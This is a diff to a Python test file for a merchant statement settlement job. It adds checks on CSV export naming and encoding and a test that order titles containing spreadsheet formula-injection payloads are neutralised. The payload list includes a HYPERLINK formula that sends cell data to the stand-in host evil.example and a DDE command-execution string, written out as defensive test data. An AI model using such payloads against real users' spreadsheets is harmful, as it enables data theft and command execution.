@@ -122,16 +122,52 @@ def test_statements_match_an_independent_recomputation_and_land_in_cos(seeded, o
     for merchant in ("m-self", "m-huaxia", "m-dianfeng"):
         statement = seeded.statements.find_one({"_id": f"{merchant}:{DAY}"})
         assert statement["net"] == expected(seeded, orders, merchant), merchant
-        body = (
-            cos.get_object(Bucket="statements-1250000000", Key=f"statements/{merchant}/{DAY}.csv")[
-                "Body"
-            ]
-            .read()
-            .decode()
-        )
+        name = f"statement_{merchant}_{DAY}.csv"
+        assert statement["csv_key"] == f"statements/{merchant}/{name}"
+        exported = cos.get_object(Bucket="statements-1250000000", Key=statement["csv_key"])
+        assert exported["ContentDisposition"] == f'attachment; filename="{name}"'
+        body = exported["Body"].read().decode("utf-8-sig")
         assert body.splitlines()[-1] == f"net_payable_fen,,,,,{statement['net']},,"
     self_statement = seeded.statements.find_one({"_id": f"m-self:{DAY}"})
     assert (self_statement["gross"], self_statement["refunded"]) == (1990, 1290)
+
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_a_statement_csv_runs_no_formula_and_opens_in_a_chinese_excel(seeded, cos):
+    import csv
+    import io
+
+    seeded.orders.insert_one(
+        {
+            "_id": "OX",
+            "openid": "o-x",
+            "idempotency_key": "OX",
+            "lines": [
+                _line("m-huaxia", f"x{i}", 100) | {"title": t} for i, t in enumerate(HOSTILE_TITLES)
+            ],
+            "completed_at": _at(10),
+        }
+    )
+    settle()
+    statement = seeded.statements.find_one({"_id": f"m-huaxia:{DAY}"})
+    raw = cos.get_object(Bucket="statements-1250000000", Key=statement["csv_key"])["Body"].read()
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads it as UTF-8
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    titles = [row[3] for row in rows[1:-2]]
+    assert sorted(titles) == sorted("'" + t for t in HOSTILE_TITLES)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell  # numbers only
 
 
 def test_running_twice_changes_nothing(seeded, orders, cos):
@@ -224,7 +260,7 @@ def test_operators_see_their_statements_and_download_them(seeded, orders, monkey
         mine = as_operator("merchant:m-huaxia", {})["data"]["statements"]
         assert [s["merchant_id"] for s in mine] == ["m-huaxia"]
         with urllib.request.urlopen(mine[0]["download"], timeout=10) as response:
-            assert response.read().decode().startswith("kind,order_id,sku_id")
+            assert response.read().decode("utf-8-sig").startswith("kind,order_id,sku_id")
         assert as_operator("merchant:m-huaxia", {"merchant_id": "m-self"})["code"] == "FORBIDDEN"
         assert as_operator("service", {})["code"] == "FORBIDDEN"
         assert len(as_operator("admin", {})["data"]["statements"]) == 3
